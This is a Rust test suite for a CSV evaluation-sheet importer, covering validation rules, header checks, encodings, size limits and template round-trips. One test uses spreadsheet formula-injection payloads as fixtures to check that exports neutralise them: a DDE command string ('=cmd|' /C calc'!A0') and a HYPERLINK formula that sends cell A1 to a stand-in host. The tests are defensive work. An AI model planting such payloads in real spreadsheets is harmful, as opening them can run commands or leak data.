//! Every rule of the evaluation-sheet import, one line per case.
//!
//! Each case is a file body (rows 5+, or a whole file) and the expected
//! outcome written as `status cell:code ...`, where a cell is Excel's `C5`,
//! a whole row `5`, and the whole file an empty string.

use sheetlink_engine::evaluation::{
    Batch, Change, ItemKind, MAX_FILE_BYTES, Report, SheetSchema, Status, TemplateRow, Validation,
    validate, write_template,
};
use sheetlink_engine::{Diagnostic, Lang};

const HEADER: &str = "\u{feff}version:1,period:p1,sheet:s1\r\n\
name,employeenumber_or_email,score,comment,grade,agree\r\n\
【氏名】,(必須)【従業員番号またはメールアドレス】,【評価>未設定>点数】,【評価>所見】,【評価>評語】,【確認】\r\n\
,,数値,記入テキスト,プルダウン,チェックボックス\r\n";

fn schema() -> SheetSchema {
    serde_json::from_str(
        r#"{"period": "p1", "sheet": "s1", "items": [
            {"id": "score", "label": ["評価", "", "点数"], "type": "number", "min": 0, "max": 100},
            {"id": "comment", "label": ["評価", "所見"], "type": "text", "max_len": 10},
            {"id": "grade", "label": ["評価", "評語"], "type": "dropdown", "options": ["S", "A", "B"]},
            {"id": "agree", "label": ["確認"], "type": "checkbox"}
        ], "evaluatees": ["E1", "E2", "a@example.com", "E4"]}"#,
    )
    .expect("test schema parses")
}

fn cell(diagnostic: &Diagnostic) -> String {
    match (diagnostic.row, diagnostic.column_letter()) {
        (Some(row), Some(letter)) => format!("{letter}{row}"),
        (Some(row), None) => row.to_string(),
        _ => String::new(),
    }
}

fn summary(report: &Report) -> String {
    let mut out = report.status.as_str().to_owned();
    for diagnostic in &report.diagnostics {
        out.push_str(&format!(" {}:{}", cell(diagnostic), diagnostic.code()));
    }
    out
}

/// The error file of `input` from its report, with the Japanese messages.
fn error_file_of(input: &[u8], report: &Report) -> String {
    let messages: Vec<String> = report
        .diagnostics
        .iter()
        .map(|d| d.message(Lang::Ja))
        .collect();
    let errors = report
        .diagnostics
        .iter()
        .zip(&messages)
        .map(|(d, m)| (d.row, d.column, m.as_str()));
    String::from_utf8(sheetlink_engine::evaluation::error_file(input, errors)).expect("UTF-8")
}

fn check_file(input: &[u8], expected: &str) {
    let (report, _) = validate(&schema(), input);
    assert_eq!(
        summary(&report),
        expected,
        "file {:?}",
        String::from_utf8_lossy(input)
    );
}

fn check_body(body: &str, expected: &str) {
    check_file(format!("{HEADER}{body}").as_bytes(), expected);
}

#[test]
fn cells() {
    let cases = [
        ("山田,E1,12.5,良い,A,1\r\n", "ok"),
        ("山田,E1,,,,\r\n", "ok"),
        ("山田,E1,100,,,\r\n", "ok"),
        ("山田,E1,0,,,\r\n", "ok"),
        ("山田,E1,100.004,,,\r\n", "ok"),
        ("山田,E1,100.005,,,\r\n", "errors C5:number.above_max"),
        ("山田,E1,101,,,\r\n", "errors C5:number.above_max"),
        ("山田,E1,-0.01,,,\r\n", "errors C5:number.below_min"),
        ("山田,E1,-0.004,,,\r\n", "ok"),
        ("山田,E1,\"123\",,,\r\n", "errors C5:number.quoted"),
        ("山田,E1,\"1,234\",,,\r\n", "errors C5:number.quoted"),
        ("山田,E1,abc,,,\r\n", "errors C5:number.invalid"),
        ("山田,E1,１２,,,\r\n", "errors C5:number.invalid"),
        ("山田,E1, 12,,,\r\n", "errors C5:number.invalid"),
        ("山田,E1,1E3,,,\r\n", "errors C5:number.invalid"),
        (
            "山田,E1,1234567890123456,,,\r\n",
            "errors C5:number.too_large",
        ),
        ("山田,E1,,0123456789,,\r\n", "ok"),
        ("山田,E1,,あいうえおかきくけこ,,\r\n", "ok"),
        (
            "山田,E1,,あいうえおかきくけこさ,,\r\n",
            "errors D5:text.too_long",
        ),
        ("山田,E1,,\"改行\r\nと\"\"引用\"\"\",,\r\n", "ok"),
        ("山田,E1,,\"123\",,\r\n", "ok"),
        ("山田,E1,,,S,\r\n", "ok"),
        ("山田,E1,,,s,\r\n", "errors E5:dropdown.unknown"),
        ("山田,E1,,,A ,\r\n", "errors E5:dropdown.unknown"),
        ("山田,E1,,,\"B\",\r\n", "ok"),
        ("山田,E1,,,,0\r\n", "ok"),
        ("山田,E1,,,,2\r\n", "errors F5:checkbox.invalid"),
        ("山田,E1,,,,yes\r\n", "errors F5:checkbox.invalid"),
        (
            "山田,E1,abc,あいうえおかきくけこさ,Z,9\r\n",
            "errors C5:number.invalid D5:text.too_long E5:dropdown.unknown F5:checkbox.invalid",
        ),
    ];
    for (body, expected) in cases {
        check_body(body, expected);
    }
}

#[test]
fn evaluatees_and_rows() {
    let cases = [
        ("山田,,1,,,\r\n", "errors B5:evaluatee.missing"),
        ("山田,E9,1,,,\r\n", "errors B5:evaluatee.unknown"),
        ("山田,e1,1,,,\r\n", "errors B5:evaluatee.unknown"),
        ("A,a@example.com,1,,,\r\n", "ok"),
        (
            "A,E1,1,,,\r\nB,E1,2,,,\r\n",
            "errors B6:evaluatee.duplicate",
        ),
        ("A,E1,1,,\r\n", "errors 5:row.field_count"),
        ("A,E1,1,,,,x\r\n", "errors 5:row.field_count"),
        ("A,E1,1,,,,,\r\n", "ok"),
        (",,,,,\r\nA,E1,1,,,\r\n", "ok"),
        ("A,E1,1,,,\r\n\r\nB,E2,x,,,\r\n", "errors C7:number.invalid"),
        (
            "A,E1,,\"一行目\n二行目\",,\r\nB,E2,x,,,\r\n",
            "errors C6:number.invalid",
        ),
        ("A,E1,1,,,\nB,E2,x,,,", "errors C6:number.invalid"),
        (
            "A,,x,,,\r\n",
            "errors B5:evaluatee.missing C5:number.invalid",
        ),
    ];
    for (body, expected) in cases {
        check_body(body, expected);
    }
}

#[test]
fn header() {
    let rows_2_to_4 = HEADER
        .split_once("\r\n")
        .map(|(_, rest)| rest)
        .unwrap_or_default();
    let without_bom = HEADER.trim_start_matches('\u{feff}');
    let cases: Vec<(String, &str)> = vec![
        (without_bom.to_owned(), "ok"),
        (
            HEADER.replace("version:1", "version:2"),
            "rejected A1:header.cell",
        ),
        (
            HEADER.replace("period:p1", "period:p0"),
            "rejected B1:header.wrong_sheet",
        ),
        (
            HEADER.replace("sheet:s1", "sheet:other"),
            "rejected C1:header.wrong_sheet",
        ),
        (HEADER.replace("sheet:s1", "sheet:s1,,,"), "ok"),
        (
            HEADER.replace("sheet:s1", "sheet:s1,,x,"),
            "rejected E1:header.cell",
        ),
        (
            format!("version:1,period:p1\r\n{rows_2_to_4}"),
            "rejected C1:header.cell",
        ),
        (
            HEADER.replace(",comment,", ",nosuch,"),
            "rejected D2:header.unknown_item",
        ),
        (
            HEADER.replace(",comment,", ",score,"),
            "rejected D2:header.duplicate_item",
        ),
        (HEADER.replace("name,", "氏名,"), "rejected A2:header.cell"),
        (
            HEADER.replace("【氏名】", "氏名"),
            "rejected A3:header.cell",
        ),
        (
            HEADER.replace(",チェックボックス", ",数値"),
            "rejected F4:header.item_type",
        ),
        (HEADER.replace(",チェックボックス", ",checkbox"), "ok"),
        (
            HEADER.replace(",チェックボックス", ""),
            "rejected 4:header.width",
        ),
        (
            HEADER.replace("【確認】", "【確認】,余分"),
            "rejected 3:header.width",
        ),
        (HEADER.replace("【評価>所見】", "【所見(変更後)】"), "ok"),
        (
            HEADER.replace(",score,comment,grade,agree", ",,,,"),
            "rejected 2:header.no_items 3:header.width 4:header.width",
        ),
        (
            HEADER
                .split("\r\n")
                .take(3)
                .collect::<Vec<_>>()
                .join("\r\n"),
            "rejected :header.incomplete",
        ),
        (String::new(), "rejected :header.incomplete"),
        (
            HEADER
                .replacen("\r\n", "\r\n\r\n", 2)
                .replacen("\r\n\r\n", "\r\n", 1),
            "rejected A3:header.cell B3:header.cell A4:header.cell B4:header.cell 3:header.width",
        ),
        (
            HEADER.replace(",数値,", ",数値,\r\n"),
            "rejected 4:header.width D4:header.item_type",
        ),
    ];
    for (file, expected) in cases {
        check_file(file.as_bytes(), expected);
    }
}

#[test]
fn too_many_items_is_rejected() {
    let items = (0..1001)
        .map(|i| format!(r#"{{"id": "i{i}", "type": "checkbox"}}"#))
        .collect::<Vec<_>>()
        .join(",");
    let schema: SheetSchema = serde_json::from_str(&format!(
        r#"{{"period": "p1", "sheet": "s1", "items": [{items}]}}"#
    ))
    .expect("schema parses");
    let ids: Vec<String> = (0..1001).map(|i| format!("i{i}")).collect();
    let file = format!(
        "version:1,period:p1,sheet:s1\r\nname,employeenumber_or_email,{}\r\n【氏名】,(必須)【従業員番号またはメールアドレス】,{}\r\n,,{}\r\n",
        ids.join(","),
        vec!["x"; 1001].join(","),
        vec!["チェックボックス"; 1001].join(","),
    );
    let (report, batch) = validate(&schema, file.as_bytes());
    assert_eq!(summary(&report), "rejected 2:header.too_many_items");
    assert!(batch.is_empty());
}

#[test]
fn encodings() {
    let body = "山田,E1,1,良い,A,1\r\n";
    let text = format!("{}{body}", HEADER.trim_start_matches('\u{feff}'));
    let (shift_jis, _, _) = encoding_rs::SHIFT_JIS.encode(&text);
    let (report, _) = validate(&schema(), &shift_jis);
    // Rows 1 and 2 are ASCII; the first Japanese character is in A3.
    assert_eq!(summary(&report), "rejected A3:file.encoding");
    assert!(
        report.diagnostics[0]
            .message(Lang::Ja)
            .contains("Shift_JIS")
    );
    assert!(
        report.diagnostics[0]
            .message(Lang::En)
            .contains("Shift_JIS")
    );

    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let (report, _) = validate(&schema(), &utf16);
    assert_eq!(summary(&report), "rejected :file.encoding");
    assert!(report.diagnostics[0].message(Lang::En).contains("UTF-16"));

    let mut broken = format!("{HEADER}山田,E1,1,").into_bytes();
    broken.extend_from_slice(b"\xE3\x81,A,1\r\n");
    check_file(&broken, "rejected D5:file.encoding");
}

#[test]
fn file_size_limit_is_exactly_30_mib() {
    let mut file = format!("{HEADER}A,E1,,").into_bytes();
    let room = MAX_FILE_BYTES - file.len() - ",,\r\n".len();
    file.extend(std::iter::repeat_n(b'x', room));
    file.extend_from_slice(b",,\r\n");
    assert_eq!(file.len(), MAX_FILE_BYTES);
    let (report, _) = validate(&schema(), &file);
    // At the limit the file is read (and the long text is an error)...
    assert_eq!(summary(&report), "errors D5:text.too_long");
    // ...one byte more and it is refused before reading.
    file.insert(file.len() - 2, b'x');
    let (report, _) = validate(&schema(), &file);
    assert_eq!(summary(&report), "rejected :file.too_large");
}

fn open_schema() -> SheetSchema {
    SheetSchema {
        evaluatees: None,
        ..schema()
    }
}

#[test]
fn at_most_10000_evaluatees() {
    let mut file = HEADER.to_owned();
    for i in 0..10_000 {
        file.push_str(&format!("n,K{i},1,,,\r\n"));
    }
    let (report, batch) = validate(&open_schema(), file.as_bytes());
    assert_eq!(
        (report.status, report.evaluatees, batch.len()),
        (Status::Ok, 10_000, 10_000)
    );
    file.push_str("n,K10000,1,,,\r\n");
    let (report, batch) = validate(&open_schema(), file.as_bytes());
    assert_eq!(summary(&report), "rejected 10005:file.too_many_evaluatees");
    assert!(batch.is_empty());
}

#[test]
fn aborts_when_the_50th_evaluatee_has_errors() {
    let file_with_errors = |count: usize| {
        let mut file = HEADER.to_owned();
        for i in 0..count {
            file.push_str(&format!("n,K{i},x,,,\r\nn,OK{i},1,,,\r\n"));
        }
        file
    };
    let (report, batch) = validate(&open_schema(), file_with_errors(49).as_bytes());
    assert_eq!(
        (report.status, report.with_errors, report.valid),
        (Status::Errors, 49, 49)
    );
    assert_eq!(batch.len(), 49);

    let (report, _) = validate(&open_schema(), file_with_errors(51).as_bytes());
    assert_eq!(report.status, Status::Aborted);
    assert_eq!(report.with_errors, 50);
    // The 50th errored evaluatee is on row 5 + 2 × 49; nothing after it is read.
    assert_eq!(report.diagnostics.last().and_then(|d| d.row), Some(103));
    assert_eq!(report.evaluatees, 99);
}

fn changes(batch: &Batch) -> Vec<String> {
    batch
        .evaluatees()
        .map(|evaluatee| {
            let cells: Vec<String> = evaluatee
                .changes()
                .map(|(item, change)| match change {
                    Change::Set(value) => format!("{item}={value}"),
                    Change::Clear => format!("{item}=∅"),
                })
                .collect();
            format!("{}@{}: {}", evaluatee.key, evaluatee.row, cells.join(" "))
        })
        .collect()
}

#[test]
fn batch_holds_normalized_changes_of_valid_rows_only() {
    let body = "A,E1,12.3456,,A,\r\nB,E2,x,,,\r\nC,E4,-0,\"a\"\"b\nc\",,1\r\n";
    let (report, batch) = validate(&open_schema(), format!("{HEADER}{body}").as_bytes());
    assert_eq!(summary(&report), "errors C6:number.invalid");
    assert_eq!(batch.items(), ["score", "comment", "grade", "agree"]);
    assert_eq!(
        changes(&batch),
        [
            "E1@5: score=12.35 comment=∅ grade=A agree=0",
            "E4@7: score=0 comment=a\"b\nc grade=∅ agree=1",
        ]
    );
}

#[test]
fn stepping_gives_the_same_outcome_as_one_pass() {
    let schema = sheetlink_engine::evaluation::sample::sheet_schema(40, 300);
    let mut file = sheetlink_engine::evaluation::sample::filled_template(&schema, 300, 7);
    // An error at the very end, so the steps must carry state to reach it.
    file.extend_from_slice(format!("x,NOBODY{}\r\n", ",".repeat(40)).as_bytes());
    let (expected_report, expected_batch) = validate(&schema, &file);
    assert_eq!(expected_report.with_errors, 1);

    for budget in [1, 100, 4096, 65_536] {
        let mut validation = Validation::new(&schema);
        let mut last_done = 0;
        let mut steps = 0;
        loop {
            let progress = validation.step(&file, budget);
            assert!(progress.done >= last_done && progress.done <= progress.total);
            assert_eq!(progress.total, file.len());
            last_done = progress.done;
            steps += 1;
            if progress.finished {
                break;
            }
        }
        assert!(
            steps > file.len() / budget.max(4096) / 2,
            "budget {budget}: {steps} steps"
        );
        let (report, batch) = validation.finish(&file);
        assert_eq!(report, expected_report, "budget {budget}");
        assert_eq!(batch, expected_batch, "budget {budget}");
    }
}

#[test]
fn template_rows_1_to_4_are_exact() {
    let rows = [TemplateRow {
        name: "山田 太郎",
        key: "E1",
        values: vec![Some("12.5"), Some("所見, \"引\"\n二"), None, Some("1")],
    }];
    let template = write_template(&schema(), &["score", "comment", "grade", "agree"], rows)
        .expect("template is written");
    let expected = format!("{HEADER}山田 太郎,E1,12.5,\"所見, \"\"引\"\"\n二\",,1\r\n");
    assert_eq!(String::from_utf8_lossy(&template), expected);
    let (report, batch) = validate(&schema(), &template);
    assert_eq!(report.status, Status::Ok);
    assert_eq!(
        changes(&batch),
        ["E1@5: score=12.5 comment=所見, \"引\"\n二 grade=∅ agree=1"]
    );
}

#[test]
fn template_refuses_impossible_requests() {
    use sheetlink_engine::Error;
    let no_rows = Vec::<TemplateRow<'_>>::new;
    let cases: [(&[&str], Error); 3] = [
        (&[], Error::NoItems),
        (&["score", "nosuch"], Error::UnknownItem("nosuch".into())),
        (&["score", "score"], Error::DuplicateItem("score".into())),
    ];
    for (items, expected) in cases {
        assert_eq!(write_template(&schema(), items, no_rows()), Err(expected));
    }
    let short = [TemplateRow {
        name: "n",
        key: "E1",
        values: vec![None],
    }];
    assert!(matches!(
        write_template(&schema(), &["score", "agree"], short),
        Err(Error::ValueCount {
            expected: 2,
            found: 1,
            ..
        })
    ));
}

#[test]
fn every_message_names_the_fix_in_both_languages() {
    let body = "A,,abc,あいうえおかきくけこさ,Z,9\r\nB,E9,\"1\",,,\r\nC,E1,101,,,\r\nD,E1,-1,,\r\n";
    let (report, _) = validate(&schema(), format!("{HEADER}{body}").as_bytes());
    assert_eq!(report.diagnostics.len(), 11);
    for diagnostic in &report.diagnostics {
        let (ja, en) = (diagnostic.message(Lang::Ja), diagnostic.message(Lang::En));
        let kana = |c: &char| ('\u{3040}'..='\u{30ff}').contains(c);
        assert!(ja.chars().any(|c| kana(&c)), "not Japanese: {ja}");
        assert!(!en.chars().any(|c| kana(&c)), "not English: {en}");
        assert!(ja.len() > 20 && en.len() > 20, "too terse: {ja} / {en}");
    }
    let dropdown = report
        .diagnostics
        .iter()
        .find(|d| d.code() == "dropdown.unknown");
    assert!(dropdown.is_some_and(|d| d.message(Lang::Ja).contains("「S」、「A」、「B」")));
}

#[test]
fn schema_json_round_trips() {
    let schema = schema();
    let json = serde_json::to_string(&schema).expect("serializes");
    let back: SheetSchema = serde_json::from_str(&json).expect("parses");
    assert_eq!(back, schema);
    assert!(matches!(
        back.items[0].kind,
        ItemKind::Number {
            min: Some(0.0),
            max: Some(100.0)
        }
    ));
    assert_eq!(back.items[0].caption(), "【評価>未設定>点数】");
}

#[test]
fn error_file_keeps_the_failed_rows_and_reads_back_once_fixed() {
    let body = "山田,E1,12,ok,A,1\r\n鈴木,E2,abc,,,2\r\n佐藤,a@example.com,,,B,\r\n";
    let upload = format!("{HEADER}{body}");
    let (report, _) = validate(&schema(), upload.as_bytes());
    assert_eq!(
        summary(&report),
        "errors C6:number.invalid F6:checkbox.invalid"
    );
    let file = error_file_of(upload.as_bytes(), &report);
    let lines: Vec<&str> = file.split("\r\n").collect();
    assert_eq!(lines[0], "\u{feff}version:1,period:p1,sheet:s1");
    assert_eq!(
        lines[1],
        "name,employeenumber_or_email,score,comment,grade,agree,#errors"
    );
    assert!(
        lines[2].ends_with(",【確認】,【エラー内容】"),
        "{}",
        lines[2]
    );
    assert_eq!(lines[3], ",,数値,記入テキスト,プルダウン,チェックボックス,");
    assert!(
        lines[4].starts_with("鈴木,E2,abc,,,2,\"C6: "),
        "{}",
        lines[4]
    );
    assert!(lines[4].contains("\nF6: "), "one message per line");
    assert_eq!(
        lines.len(),
        6,
        "only the failed row, then the final line end"
    );

    // Fixed in Excel and uploaded as it is: the error column is read over.
    let fixed = file.replacen("鈴木,E2,abc,,,2,", "鈴木,E2,42,,,1,", 1);
    let (report, batch) = validate(&schema(), fixed.as_bytes());
    assert_eq!(summary(&report), "ok");
    assert_eq!(
        changes(&batch),
        ["E2@5: score=42 comment=∅ grade=∅ agree=1"]
    );
}

#[test]
fn row_keys_reads_the_key_column_of_the_rows_asked_for() {
    use sheetlink_engine::evaluation::row_keys;
    let file = "\u{feff}version:1,period:p,sheet:s\r\nname,employeenumber_or_email,a\r\nx,y,z\r\n,,数値\r\n山田,E1,1\r\n\"田中, 花子\",\"E,2\",2\r\n佐藤,E3,3\r\n";
    let rows = [6, 7, 99].into_iter().collect();
    let keys = row_keys(file.as_bytes(), &rows);
    assert_eq!(
        keys.into_iter().collect::<Vec<_>>(),
        vec![(6, "E,2".to_owned()), (7, "E3".to_owned())]
    );
    assert!(row_keys(file.as_bytes(), &Default::default()).is_empty());
}

#[test]
fn e_mail_keys_ignore_case_and_employee_numbers_do_not() {
    let schema: SheetSchema = serde_json::from_str(
        r#"{"period": "p", "sheet": "s", "items": [{"id": "a", "type": "number"}],
            "evaluatees": ["E0001", "sato.hanako@example.co.jp"]}"#,
    )
    .expect("schema");
    let file = |rows: &str| {
        format!(
            "version:1,period:p,sheet:s\r\nname,employeenumber_or_email,a\r\n【氏名】,(必須)【従業員番号またはメールアドレス】,【a】\r\n,,数値\r\n{rows}"
        )
    };
    let (report, batch) = validate(
        &schema,
        file("佐藤,Sato.Hanako@Example.CO.JP,1\r\n").as_bytes(),
    );
    assert_eq!(
        (report.valid, report.with_errors),
        (1, 0),
        "{:?}",
        report.diagnostics
    );
    assert_eq!(
        batch.evaluatees().next().map(|e| e.key),
        Some("Sato.Hanako@Example.CO.JP")
    );
    let (report, _) = validate(
        &schema,
        file("佐藤,sato.hanako@example.co.jp,1\r\n佐藤,SATO.HANAKO@EXAMPLE.CO.JP,2\r\n").as_bytes(),
    );
    assert_eq!(report.diagnostics[0].code(), "evaluatee.duplicate");
    let (report, _) = validate(&schema, file("誰か,e0001,1\r\n").as_bytes());
    assert_eq!(
        report.diagnostics[0].code(),
        "evaluatee.unknown",
        "employee numbers compare exactly"
    );
}

/// Every file sheetlink writes is formula-protected with one rule, and
/// reading undoes it exactly once: a template downloaded and re-imported
/// untouched gives exactly the stored values back.
#[test]
fn templates_and_error_files_are_formula_protected_and_read_back_unchanged() {
    let schema: SheetSchema = serde_json::from_str(
        r#"{"period": "p1", "sheet": "s1", "items": [
            {"id": "score", "label": ["評価", "点数"], "type": "number", "min": -10, "max": 100},
            {"id": "comment", "label": ["=所見"], "type": "text"},
            {"id": "grade", "label": ["評語"], "type": "dropdown", "options": ["@A", "-B", "'C"]}
        ]}"#,
    )
    .expect("schema parses");
    let hyperlink = "=HYPERLINK(\"http://x/?\"&A1,\"詳細\")";
    let rows = [
        TemplateRow {
            name: "=cmd|' /C calc'!A0",
            key: "E1",
            values: vec![Some("-5"), Some(hyperlink), Some("@A")],
        },
        TemplateRow {
            name: "佐藤",
            key: "-E2",
            values: vec![Some("7.5"), Some("'=already"), Some("'C")],
        },
        TemplateRow {
            name: "鈴木",
            key: "E3",
            values: vec![None, Some("@SUM(A1)"), Some("-B")],
        },
    ];
    let template =
        write_template(&schema, &["score", "comment", "grade"], rows).expect("template is written");
    let text = String::from_utf8(template.clone()).expect("UTF-8");
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert!(
        lines[2].contains(",【=所見】,"),
        "captions are bracketed: {}",
        lines[2]
    );
    assert_eq!(
        lines[4],
        "'=cmd|' /C calc'!A0,E1,-5,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"詳細\"\")\",'@A"
    );
    assert_eq!(lines[5], "佐藤,'-E2,7.5,''=already,''C");
    assert_eq!(lines[6], "鈴木,E3,,'@SUM(A1),'-B");
    // No cell of the template starts with a formula character unprotected.
    for line in &lines[4..] {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "unprotected cell {cell:?} in {line}");
        }
    }

    let (report, batch) = validate(&schema, &template);
    assert_eq!(summary(&report), "ok");
    assert_eq!(
        changes(&batch),
        [
            format!("E1@5: score=-5 comment={hyperlink} grade=@A"),
            "-E2@6: score=7.5 comment='=already grade='C".to_owned(),
            "E3@7: score=∅ comment=@SUM(A1) grade=-B".to_owned(),
        ]
    );

    // The error file writes cells as the validator read them, protected
    // again: an unprotected formula in the upload comes back protected, and
    // fixing the error gives the same values.
    let upload = format!(
        "{}=1+1,E9,abc,@SUM(A1),'-B\r\n",
        text.split("\r\n").take(4).collect::<Vec<_>>().join("\r\n") + "\r\n"
    );
    let (report, _) = validate(&schema, upload.as_bytes());
    assert_eq!(summary(&report), "errors C5:number.invalid");
    let file = error_file_of(upload.as_bytes(), &report);
    let row = file.split("\r\n").nth(4).expect("the failed row");
    assert!(row.starts_with("'=1+1,E9,abc,'@SUM(A1),'-B,"), "{row}");
    let (report, batch) = validate(&schema, file.replacen(",abc,", ",-5,", 1).as_bytes());
    assert_eq!(summary(&report), "ok");
    assert_eq!(
        changes(&batch),
        ["E9@5: score=-5 comment=@SUM(A1) grade=-B"]
    );
}

/// The error file of a header bomb keeps no more cells a row than a
/// template can have.
#[test]
fn the_error_file_of_a_header_bomb_stays_small() {
    use sheetlink_engine::evaluation::{MAX_HEADER_COLUMNS, error_file};
    let mut bomb = b"version:1,period:p1,sheet:s1\r\nname,employeenumber_or_email".to_vec();
    bomb.extend(std::iter::repeat_n(&b",i"[..], 2_000_000).flatten());
    bomb.extend_from_slice(b"\r\n");
    let (report, _) = validate(&schema(), &bomb);
    assert_eq!(summary(&report), "rejected ALP2:header.too_many_items");
    let message = report.diagnostics[0].message(Lang::Ja);
    let file = error_file(&bomb, [(Some(2), Some(3), message.as_str())]);
    assert!(file.len() < 10_000, "{} bytes", file.len());
    let row2 = String::from_utf8(file).expect("UTF-8");
    let row2 = row2.split("\r\n").nth(1).expect("row 2");
    assert_eq!(row2.split(',').count(), MAX_HEADER_COLUMNS as usize + 1);
}
